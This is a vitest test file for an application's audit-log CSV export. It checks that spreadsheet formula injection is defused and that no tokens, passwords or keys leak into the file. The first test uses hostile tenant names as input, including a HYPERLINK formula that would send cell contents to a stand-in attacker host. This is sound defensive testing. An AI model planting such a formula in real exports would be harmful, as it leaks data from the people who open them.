import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AUDIT_EXPORT_MAX_ROWS } from '@postern/contract';
import { exportAuditCsv } from '../modules/audit/export.js';
import { buildTestApp, TEST_ADMIN, type TestApp } from '../test/build-test-app.js';

// The audit log's CSV export from the attacker's side: a tenant (a node's token) chooses the names that
// end up in the operator's spreadsheet, and the file must carry nothing secret. Who may export at all is in the
// authorisation matrix (auth.test.ts: only the admin's session).

let t: TestApp;
let session: string;

beforeAll(async () => {
  t = await buildTestApp();
  session = await t.login();
});
afterAll(() => t.cleanup());

async function call(method: 'GET' | 'POST' | 'PATCH', url: string, token: string, payload?: object) {
  const response = await t.app.inject({
    method,
    url,
    headers: { authorization: `Bearer ${token}` },
    ...(payload ? { payload } : {}),
  });
  return {
    status: response.statusCode,
    body: response.body,
    json: response.json.bind(response),
    headers: response.headers,
  };
}

/** RFC 4180: fields in double quotes, quotes doubled, CRLF between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text.charAt(i);
    if (quoted) {
      if (c === '"' && text.charAt(i + 1) === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text.charAt(i + 1) === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

describe('the audit export', () => {
  it("defuses a tenant's names that a spreadsheet would run as formulas", async () => {
    const node = (await call('POST', '/api/nodes', session, { name: 'tenant' })).json<{ id: number; token: string }>();
    const names = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+cmd', '-2+3', '@SUM(A1)'];
    for (const name of names) {
      const created = await call('POST', '/api/agent/services/tcp', node.token, { name, backendPort: 1883 });
      expect(created.status, created.body).toBe(201);
    }
    const exported = await call('GET', `/api/audit/export?node=${node.id}`, session);
    expect(exported.status).toBe(200);
    expect(exported.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(exported.headers['content-disposition']).toMatch(
      /^attachment; filename="postern-audit-\d{4}-\d\d-\d\d\.csv"$/,
    );
    // Every field is quoted, so no name can end a field or a record early.
    const records = exported.body.split('\r\n').filter(Boolean);
    for (const record of records) expect(record).toMatch(/^"[^]*"$/);
    const rows = parseCsv(exported.body);
    const header = rows[0] ?? [];
    const column = (name: string) => header.indexOf(name);
    const created = rows.filter((row) => row[column('action')] === 'service.create');
    expect(created.map((row) => row[column('target_name')])).toEqual([...names].reverse().map((name) => `'${name}`));
    // No field of any row starts with a character a spreadsheet reads as a formula.
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(created[0]?.[column('sentence')]).toBe('access token default created service @SUM(A1) on node tenant');
  });

  it('carries no token, password, hash or key, though the entries are about creating and changing them', async () => {
    const node = (await call('POST', '/api/nodes', session, { name: 'secretive' })).json<{
      id: number;
      token: string;
    }>();
    const pat = (await call('POST', `/api/nodes/${node.id}/pats`, session, { name: 'ci' })).json<{ token: string }>();
    const newPassword = 'a-brand-new-passphrase-for-export';
    const changed = await call('PATCH', '/api/auth/password', session, {
      currentPassword: TEST_ADMIN.password,
      newPassword,
    });
    expect(changed.status).toBe(204);
    session = (
      await t.app.inject({
        method: 'POST',
        url: '/api/auth/login',
        payload: { username: TEST_ADMIN.username, password: newPassword },
      })
    ).json<{ token: string }>().token;
    // Put the old password back for the other tests' sign-ins.
    await call('PATCH', '/api/auth/password', session, {
      currentPassword: newPassword,
      newPassword: TEST_ADMIN.password,
    });
    session = await t.login();

    const exported = (await call('GET', '/api/audit/export', session)).body;
    expect(exported).toContain('created node secretive');
    expect(exported).toContain('created access token ci of node secretive');
    expect(exported).toContain('changed the password');
    for (const secret of [node.token, pat.token, newPassword, TEST_ADMIN.password, session])
      expect(exported).not.toContain(secret);
    expect(exported).not.toMatch(/tokenHash|privateKey|passwordHash|"token":/);
  });

  it('stops at its bound, newest first, and says how many entries matched', async () => {
    const all = await call('GET', '/api/audit/export', session);
    const matching = Number(all.headers['x-postern-export-matching']);
    expect(matching).toBeGreaterThan(5);
    expect(Number(all.headers['x-postern-export-rows'])).toBe(Math.min(matching, AUDIT_EXPORT_MAX_ROWS));
    expect(parseCsv(all.body)).toHaveLength(matching + 1);

    const bounded = await exportAuditCsv(t.deps, {}, 3);
    let text = '';
    for await (const chunk of bounded.lines) text += chunk;
    const rows = parseCsv(text);
    expect(bounded.matching).toBe(matching);
    expect(rows).toHaveLength(4);
    const ids = rows.slice(1).map((row) => Number(row[0]));
    expect(ids).toEqual([...ids].sort((a, b) => b - a));
  });
});
